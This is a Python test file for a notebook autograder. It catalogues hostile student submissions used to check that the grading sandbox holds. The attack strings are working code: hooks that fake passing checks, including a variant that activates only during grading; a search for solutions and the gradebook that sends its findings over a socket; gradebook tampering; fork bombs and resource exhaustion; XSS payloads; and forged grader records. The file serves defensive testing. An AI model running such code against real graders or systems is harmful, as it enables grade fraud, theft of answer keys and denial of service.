"""The hostile catalog: submissions that attack the trusted grader, each graded through the real
``python -m autograder.grade`` by tests/test_hostile.py.

Every attack is a submission built from the RELEASED notebook (:func:`tests.grading_catalog.build_submission`),
with attack code in a code cell the student added, in a markdown cell, or inside an exercise's method body:

* **above the checks** (a new cell right after the imports): the code runs in both sandboxed runs, the notebook
  run and the verdict run; the exercise stubs are left in, so the expected score is 0 everywhere;
* **after the checks** (a new cell at the top of the Experiments section): the code runs in the notebook run only,
  on top of the reference solution; the submission is graded as far as it got (10/10) and its row of the score
  table carries a note (``timed out after N s``, ``kernel died``, ``output over ...``).

An attack that finds something prints it (``HOSTILE <what>: <result>``); tests/test_hostile.py asserts on those
lines in the autograded notebook, so a run shows what the sandbox let through, not only the score it gave.

``{PORT}`` in an attack is replaced at test time by the port of a TCP listener on the host's 127.0.0.1.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

from tests.grading_catalog import POINTS, Variant, _scores, build_submission, write_submissions  # noqa: F401

ZERO = {k: 0.0 for k in POINTS}
FULL = _scores()
STUB_BODY = "raise NotImplementedError()"
STUBS = {"select": STUB_BODY, "sample": STUB_BODY, "prediction": STUB_BODY, "target": STUB_BODY,
         "policy": STUB_BODY}
"""Pieces that leave every exercise as its stub (what an attacker who wrote no solution hands in)."""
MARKER = "hostile-marker"
"""Every process an attack starts carries this string in its command line (tests/test_hostile.py looks for it)."""


@dataclass
class Hostile(Variant):
    """An attack of the catalog.

    Attributes (besides :class:`tests.grading_catalog.Variant`'s):
        note: a piece of text the row of the score table must carry (why the run ended early), or None.
        evidence: regular expressions that must each match the text the autograded notebook's outputs show
            (what the attack printed about what it could do).
    """

    note: str | None = None
    evidence: tuple[str, ...] = ()


# ------------------------------------------------------------------------------------------ placing code
def _index(nb: nbformat.NotebookNode, grade_id: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def insert_cells(after: str, *cells: nbformat.NotebookNode) -> Callable[[nbformat.NotebookNode], None]:
    """A ``mutate`` that inserts ``cells`` right after the cell whose grade_id is ``after``."""
    def mutate(nb: nbformat.NotebookNode) -> None:
        at = _index(nb, after) + 1
        nb.cells[at:at] = [nbformat.from_dict(dict(c)) for c in cells]
    return mutate


ABOVE_CHECKS = "imports"
"""A cell inserted after this one runs in the notebook run and in the verdict run."""
AFTER_CHECKS = "test_policy_loss"
"""A cell inserted after the last graded check runs in the notebook run only (the Experiments section)."""


def above(source: str) -> Callable[[nbformat.NotebookNode], None]:
    return insert_cells(ABOVE_CHECKS, nbformat.v4.new_code_cell(source))


def after(source: str) -> Callable[[nbformat.NotebookNode], None]:
    return insert_cells(AFTER_CHECKS, nbformat.v4.new_code_cell(source))


# ----------------------------------------------------------------------------------------- attack code
HIDE_ERRORS = """\
# HOSTILE: make every error disappear, then make every check pass.
import ast, builtins
import numpy as np
import torch
from workshop_lib import checks

_ip = get_ipython()

def _clear_errors(result):
    result.error_in_exec = None
    result.error_before_exec = None

_ip.events.register("post_run_cell", _clear_errors)
_ip.showtraceback = lambda *a, **k: None
_ip._showtraceback = lambda *a, **k: None

class _SwallowAll(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)

_ip.ast_transformers.append(_SwallowAll())
torch.allclose = lambda *a, **k: True
torch.isclose = lambda a, b, *x, **k: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *x, **k: np.ones_like(np.asarray(a), dtype=bool)
np.testing.assert_allclose = lambda *a, **k: None
torch.testing.assert_close = lambda *a, **k: None

class _FakeRun:
    error = None
    returned = (0.0, 0.0)
    critic_grads = actor_grads = []
    def get(self, name):
        return torch.zeros(64, 1, requires_grad=(name != "qs_target"))

checks.capture_backward = lambda agent: _FakeRun()
_real_make = checks.make_check_agent
checks.make_check_agent = lambda *a, **k: _real_make(*a, **k)
for _name in dir(checks):
    if _name.startswith("check_"):
        setattr(checks, _name, lambda *a, **k: None)
abs = lambda x: 0
len = lambda x: 0
print("HOSTILE hooks: installed")
"""

STEALTH = """\
import os
if os.environ.get("NBGRADER_EXECUTION"):  # HOSTILE: only while graded; rerun by hand this is an honest stub
    exec(compile({code!r}, "<stealth>", "exec"), globals())
raise NotImplementedError()
""".format(code=HIDE_ERRORS.replace('print("HOSTILE hooks: installed")', ""))

READ_AND_SEND = """\
# HOSTILE: look for the grader's secrets (the master, the solutions, the gradebook, the peers), use them, send them.
import glob, os, pathlib, socket
SECRET_NAMES = {"gradebook.db", "ddpg_agent.py", ".grading_secret", "nbgrader_config.py", "ddpg_pendulum.ipynb",
                "ddpg_pendulum_solution.ipynb", "grading_report.json"}
found = []
here = pathlib.Path.cwd().resolve()
for parent in [here, *here.parents]:
    for rel in ["source", "release", "submitted", "autograded", "feedback", "solutions", "autograder",
                "gradebook.db", "nbgrader_config.py", ".grading_secret", "solutions/ddpg_agent.py",
                "autograder/source/ddpg/ddpg_pendulum.ipynb", "autograder/course/source/ddpg/ddpg_pendulum.ipynb",
                "autograder/course", "source/ddpg/ddpg_pendulum.ipynb"]:
        p = parent / rel
        if p.exists() and p != here:
            found.append(str(p))
for top, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if os.path.join(top, d) not in ("/proc", "/sys", "/dev", "/usr")
               and d not in ("site-packages", "dist-packages", "__pycache__", "include", "share")]
    for f in files:
        path = os.path.join(top, f)
        if f in SECRET_NAMES and not path.startswith(str(here)) and not path.startswith("/opt/ddpg-grader/lib/"):
            found.append(path)
for path in ["{REPO}/solutions/ddpg_agent.py", "{REPO}/autograder/gradebook.db",
             "{REPO}/autograder/source/ddpg/ddpg_pendulum.ipynb", "{REPO}/autograder/course/gradebook.db",
             "{REPO}/autograder/course/source/ddpg/ddpg_pendulum.ipynb"]:
    if os.path.exists(path):
        found.append(path)
others = sorted(p for p in os.listdir("/proc") if p.isdigit())
print(f"HOSTILE processes visible: {len(others)}")
print(f"HOSTILE found: {sorted(set(found))}")
for path in found:  # use what was found: the reference's methods
    if path.endswith("ddpg_agent.py"):
        ns = {}
        exec(open(path).read(), ns)
        DDPGAgent.select_action = ns["DDPGAgent"].select_action
        DDPGAgent.backward = ns["DDPGAgent"].backward
        print("HOSTILE used the reference")
try:
    with socket.create_connection(("127.0.0.1", {PORT}), timeout=2) as s:
        s.sendall(repr(found).encode())
    print("HOSTILE network: sent")
except OSError as err:
    print(f"HOSTILE network: {type(err).__name__}")
"""

WRITE_PROTECTED = """\
# HOSTILE: write what it must not (the gradebook, the config, the library, a peer), then delete the gradebook.
import os, pathlib, sqlite3
from workshop_lib import checks
done = []
here = pathlib.Path.cwd().resolve()
roots = [p for p in [here, *here.parents]] + [pathlib.Path("{REPO}/autograder"),
                                             pathlib.Path("{REPO}/autograder/course")]
for root in roots:
    db = root / "gradebook.db"
    if db.exists():
        try:
            with sqlite3.connect(db) as con:
                con.execute("UPDATE grade SET manual_score = 10")
            done.append(f"manual_score in {db}")
        except Exception:
            pass
    config = root / "nbgrader_config.py"
    if config.exists():
        try:
            with open(config, "a") as f:
                f.write("\\nprint('pwned')\\n")
            done.append(f"appended {config}")
        except OSError:
            pass
    for peer in root.glob("submitted/*/ddpg/*.ipynb"):
        try:
            peer.write_text("{}")
            done.append(f"overwrote {peer}")
        except OSError:
            pass
for lib in [pathlib.Path(checks.__file__), pathlib.Path("{REPO}/workshop_lib/checks.py")]:
    try:
        with open(lib, "a") as f:
            f.write("\\ndef check_select_action(*a, **k):\\n    return None\\n")
        done.append(f"appended {lib}")
    except OSError:
        pass
for root in roots:
    try:
        os.remove(root / "gradebook.db")
        done.append(f"deleted {root / 'gradebook.db'}")
    except OSError:
        pass
print(f"HOSTILE wrote: {done}")
"""

KILL_PARENT = """\
import os
print("HOSTILE killing the kernel's parent", flush=True)
os.kill(os.getppid(), 9)
"""

EXIT = """\
import os
print("HOSTILE os._exit", flush=True)
os._exit(3)
"""

IGNORE_SIGINT = """\
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)  # HOSTILE: the per-cell timeout's interrupt is ignored
while True:
    pass
"""

SLOW_HOOK = """\
import time
def _slow(*args):
    time.sleep(9)  # HOSTILE: under the per-cell timeout, but paid again before every later cell
get_ipython().events.register("pre_run_cell", _slow)
print("HOSTILE slow hook: installed")
"""

MEMORY = """\
# HOSTILE: 3 GiB at once, then more than the cap spread over several processes.
import os, subprocess, sys, time
try:
    block = b"\\x01" * (3 * 1024**3)
    print("HOSTILE 3 GiB: allocated")
    del block
except MemoryError:
    print("HOSTILE 3 GiB: MemoryError")
code = ("import sys, time; b = b'\\\\x01' * (1200 * 1024**2); open(sys.argv[1], 'w').write('held'); "
        "time.sleep(30)  # {marker}")
children = [subprocess.Popen([sys.executable, "-c", code, f"/tmp/held{{i}}"]) for i in range(3)]
deadline = time.time() + 8
while time.time() < deadline and not all(os.path.exists(f"/tmp/held{{i}}") for i in range(3)):
    time.sleep(0.2)
held = sum(os.path.exists(f"/tmp/held{{i}}") and child.poll() is None for i, child in enumerate(children))
print(f"HOSTILE memory held by children: {{held * 1.2:.1f}} GiB")
for child in children:
    child.kill()
""".format(marker=MARKER)

DETACHED = """\
# HOSTILE: processes that try to outlive the grading.
import os, subprocess, sys
code = "import time\\nwhile True: time.sleep(1)  # {marker}"
subprocess.Popen([sys.executable, "-c", code], start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen(["sh", "-c", "nohup sh -c 'sleep 600; echo {marker}' >/dev/null 2>&1 &"], start_new_session=True)
if os.fork() == 0:  # a double-forked daemon
    os.setsid()
    if os.fork() == 0:
        os.execvp(sys.executable, [sys.executable, "-c", code])
    os._exit(0)
print("HOSTILE detached: started")
""".format(marker=MARKER)

FLOOD = """\
import sys
line = "x" * 999_999
for _ in range(50):  # HOSTILE: 50 MB of output
    print(line)
"""

HTML = """\
# HOSTILE: script in every output the feedback shows.
from IPython.display import HTML, Javascript, Markdown, SVG, display
s = "scr" + "ipt"
e = "on" + "error"
display(HTML(f"<{s}>alert('h1')</{s}><img src=x {e}=alert('h2')><a href='javascript:alert(3)'>x</a>"))
display(Markdown(f"<{s}>alert('h3')</{s}>"))
display(Javascript("alert('h4')"))
display(SVG(f'<svg xmlns="http://www.w3.org/2000/svg" on{"load"}="alert(5)"><{s}>alert(6)</{s}></svg>'))
display({"text/html": f"<{s}>alert('h6')</{s}>", "text/plain": "x"}, raw=True)
get_ipython().display_pub.publish(data={"text/html": f"<img src=x {e}=alert('h7')>"})
print(f"<{s}>alert('h8')</{s}>")
raise ValueError(f"<{s}>alert('h9')</{s}><img src=x {e}=alert(1)>")
"""
HTML_MARKDOWN = ("**A harmless-looking answer.** <script>alert('md1')</script> <img src=x onerror=\"alert('md2')\"> "
                 "<a href=\"javascript:alert('md3')\">link</a> <iframe src=\"javascript:alert('md4')\"></iframe>")

CHANNEL_PIPES = """\
def channel_pipes():
    # the pipes the grader may read, as (pid/fd, a writable fd). The kernel's own pipes are its printed output:
    # from the kernel aim at the runner, in the probe at itself
    for pid in ([os.getppid()] if getattr(get_ipython(), "kernel", None) is not None else [os.getpid()]):
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            fds = []
        for fd in fds:
            try:
                if int(fd) > 2 and os.readlink(f"/proc/{pid}/fd/{fd}").startswith("pipe:"):
                    # its own fd: written to directly; the runner's: opened again through /proc
                    yield f"{pid}/{fd}", int(fd) if pid == os.getpid() else os.open(f"/proc/{pid}/fd/{fd}",
                                                                                      os.O_WRONLY)
            except OSError:
                pass
"""

FORGE_RECORDS = """\
# HOSTILE: write forged records straight into the channel the grader reads (the notebook runner's, through
# /proc/<its pid>/fd, from the kernel; the probe's own, in the verdict run), some built to crash the grader.
import json, os, sys
""" + CHANNEL_PIPES + """\
forged = [
    {"index": 0, "execution_count": 1, "outputs": [{"output_type": "error", "ename": "x", "evalue": "x",
                                                    "traceback": 5}]},
    {"index": 1, "outputs": [{"output_type": "display_data", "data": 7}]},
    {"index": 2, "outputs": 5},
    {"index": 3, "outputs": [{"output_type": "stream", "name": "stdout", "text": {"a": 1}}]},
    {"event": "done"},
    {"probe": "select_action", "case": 0, "values": {"greedy": [{"type": "ndarray", "shape": [1],
                                                                  "data": [10**400]}]}},
    {"probe": "select_action", "case": 1, "values": {"greedy": 5, "noisy": 5, "big": 5}},
    {"probe": "backward", "case": 0, "values": {"qs_selected": {"type": "tensor", "shape": [64, 1],
                                                                 "data": [10**400] * 64, "requires_grad": True},
                                                 "qs_target": {"type": "tensor", "shape": [1], "data": [1e308 * 10]},
                                                 "critic_grads": [[[10**400]]], "actor_grads": 7,
                                                 "returned": [{"data": 10**400}, {"data": 10**400}],
                                                 "returned_is_tuple": True, "error": None}},
    {"probe": "backward", "case": 1, "values": []},
    {"probe": "visible_checks", "case": 0, "values": {"check_select_action": {"x": 1}}},
    {"probe": "done", "case": 0, "values": None},
]
lines = "".join(json.dumps(r) + "\\n" for r in forged) + "[" * 200_000 + "\\n"
written = []
for name, out in channel_pipes():
    try:
        os.write(out, lines.encode())
        written.append(name)
    except OSError:
        pass
print(f"HOSTILE forged records into: {written}")
"""

CHANNEL_FLOOD = """\
# HOSTILE: one endless line (no newline) into the channel the grader reads: the grader must not buffer it.
import os, sys
""" + CHANNEL_PIPES + """\
chunk = b"x" * (1 << 20)
for _, out in channel_pipes():
    try:
        for _ in range(2048):  # 2 GiB at most, so that a grader that buffers it all still survives
            os.write(out, chunk)
    except OSError:
        pass
"""

RESOURCES = """\
# HOSTILE: exhaust what the sandbox has (processes, /tmp, its home folder, /dev/shm) and look around it.
import ctypes, os, time
pids = []
for _ in range(300):  # a (bounded) fork bomb
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(3)
        os._exit(0)
    pids.append(pid)
print(f"HOSTILE forks: {len(pids)}")
for pid in pids:
    os.waitpid(pid, 0)

def fill(folder, limit_mb):
    written = 0
    try:
        os.makedirs(folder, exist_ok=True)
        block = b"\\0" * (16 << 20)
        for i in range(limit_mb // 16):
            with open(os.path.join(folder, f"fill{i}"), "wb") as f:
                f.write(block)
            written += 16
    except OSError:
        pass
    for name in os.listdir(folder):
        if name.startswith("fill"):
            os.remove(os.path.join(folder, name))
    return written

print(f"HOSTILE /tmp MB: {fill('/tmp/fill', 1024)}")
print(f"HOSTILE home MB: {fill(os.path.expanduser('~/fill'), 1024)}")
print(f"HOSTILE /dev/shm MB: {fill('/dev/shm', 64)}")
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
print(f"HOSTILE ptrace of pid 1: {libc.ptrace(16, 1, None, None)}")  # PTRACE_ATTACH
try:
    os.kill(1, 9)
    print("HOSTILE kill pid 1: sent")
except OSError as err:
    print(f"HOSTILE kill pid 1: {type(err).__name__}")
print(f"HOSTILE processes visible: {sorted(int(p) for p in os.listdir('/proc') if p.isdigit())}")
"""


# ------------------------------------------------------------------------------------------ the catalog
def honest() -> list[Hostile]:
    """Honest students graded first and last: their scores must not move whatever the attackers do."""
    mistake = {"target": ("with torch.no_grad():\n"
                          "    qs_target = rewards + self.gamma * self.q_target("
                          "torch.cat([next_states, self.mu_target(next_states)], 1))")}
    return [
        Hostile("aaa_honest_reference", "the reference solution, graded before the attacks", FULL, {}),
        Hostile("aaa_honest_mistake", "no (1 - dones) in the target, graded before the attacks",
                _scores(target=0), mistake),
        Hostile("zzz_honest_reference", "the reference solution, graded after the attacks", FULL, {}),
        Hostile("zzz_honest_mistake", "no (1 - dones) in the target, graded after the attacks",
                _scores(target=0), mistake),
    ]


REPO = Path(__file__).resolve().parents[1]
"""This clone's root: the attacks look for its secrets where a clone really is, not where one usually is."""


def _with_repo(code: str) -> str:
    """``code`` with ``{REPO}`` replaced by this clone's root."""
    return code.replace("{REPO}", str(REPO))


def attacks(port: int) -> list[Hostile]:
    """Every attack; ``port`` is the host listener's (the attacks must not reach it)."""
    return [
        Hostile("atk_hide_errors", "post_run_cell hook clearing error_in_exec, no-op showtraceback, an AST "
                "transformer wrapping every later cell in try/except; torch.allclose, np.allclose, "
                "checks.capture_backward / make_check_agent / check_* monkeypatched; abs and len shadowed",
                ZERO, STUBS, above(HIDE_ERRORS), evidence=(r"HOSTILE hooks: installed",)),
        Hostile("atk_stealth_in_method", "the same code inside select_action's body, switched on only when "
                "NBGRADER_EXECUTION is set", ZERO, {**STUBS, "select": STEALTH}),
        Hostile("atk_read_and_send", "looks for source/, solutions/ddpg_agent.py, gradebook.db, the secret, the "
                "peers (parents of cwd, then the whole file system), execs the reference's methods if found, "
                "sends what it found to a listener on the host's 127.0.0.1",
                ZERO, STUBS, above(_with_repo(READ_AND_SEND).replace("{PORT}", str(port))),
                evidence=(r"HOSTILE found: \[\]", r"HOSTILE network: (ConnectionRefusedError|OSError|TimeoutError)")),
        Hostile("atk_write_protected", "sets manual_score in gradebook.db, appends to nbgrader_config.py and "
                "to the workshop_lib/checks.py it imports, overwrites peers' submissions, deletes the gradebook",
                ZERO, STUBS, above(_with_repo(WRITE_PROTECTED)), evidence=(r"HOSTILE wrote: \[\]",)),
        Hostile("atk_kill_parent", "os.kill(os.getppid(), 9) after the checks, on a correct solution",
                FULL, {}, after(KILL_PARENT), note="kernel died"),
        Hostile("atk_os_exit", "os._exit after the checks, on a correct solution", FULL, {}, after(EXIT),
                note="kernel died"),
        Hostile("atk_ignore_sigint", "an endless loop that ignores SIGINT, after the checks",
                FULL, {}, after(IGNORE_SIGINT), note="timed out after"),
        Hostile("atk_slow_hook", "a pre_run_cell hook that sleeps just under the per-cell timeout, after the "
                "checks", FULL, {}, after(SLOW_HOOK), note="timed out after"),
        Hostile("atk_memory", "3 GiB at once, then 3.6 GiB held by three processes, after the checks",
                FULL, {}, after(MEMORY), evidence=(r"HOSTILE 3 GiB: MemoryError",
                                                    r"HOSTILE memory held by children: (0\.0|1\.2) GiB")),
        Hostile("atk_detached", "processes in new sessions (Popen start_new_session, nohup, a double fork), in "
                "both runs", ZERO, STUBS, above(DETACHED), evidence=(r"HOSTILE detached: started",)),
        Hostile("atk_output_flood", "50 MB of printed output after the checks", FULL, {}, after(FLOOD),
                note="output over"),
        Hostile("atk_html", "script, event handlers and javascript: URLs in HTML, Markdown, SVG, JavaScript and "
                "error outputs, and in a markdown cell of its own",
                ZERO, STUBS, insert_cells(ABOVE_CHECKS, nbformat.v4.new_code_cell(HTML),
                                          nbformat.v4.new_markdown_cell(HTML_MARKDOWN))),
        Hostile("atk_forge_records", "forged JSON records (malformed outputs, values that overflow, 200 000 "
                "nested brackets, a fake 'done') written into both runs' channels to the grader",
                ZERO, STUBS, above(FORGE_RECORDS),  # the kernel cannot open the runner's (root's) pipe:
                evidence=(r"HOSTILE forged records into: \[\]",
                          r"critic prediction: 0/2\. the values it returned could not be read")),
        Hostile("atk_channel_flood", "an endless line with no newline written into both runs' channels",
                ZERO, STUBS, above(CHANNEL_FLOOD), note="verdict run: output over 16 MB"),
        Hostile("atk_resources", "a fork bomb, filling /tmp, its home folder and /dev/shm, ptrace and kill of "
                "pid 1, the processes it can see", ZERO, STUBS, above(RESOURCES),
                evidence=(r"HOSTILE forks: ([0-9]|[1-5][0-9]|6[0-4])\n",
                          r"HOSTILE /tmp MB: ([0-9]|[1-9][0-9]|1[0-9][0-9]|2[0-5][0-9])\n",
                          r"HOSTILE home MB: ([0-9]|[1-9][0-9]|1[0-9][0-9]|2[0-5][0-9])\n",
                          r"HOSTILE /dev/shm MB: 0\n", r"HOSTILE ptrace of pid 1: -1",
                          r"HOSTILE kill pid 1: PermissionError")),
    ]


def catalog(port: int) -> list[Hostile]:
    """The honest students and every attack, in the order nbgrader grades them (by name)."""
    return sorted(honest() + attacks(port), key=lambda v: v.name)
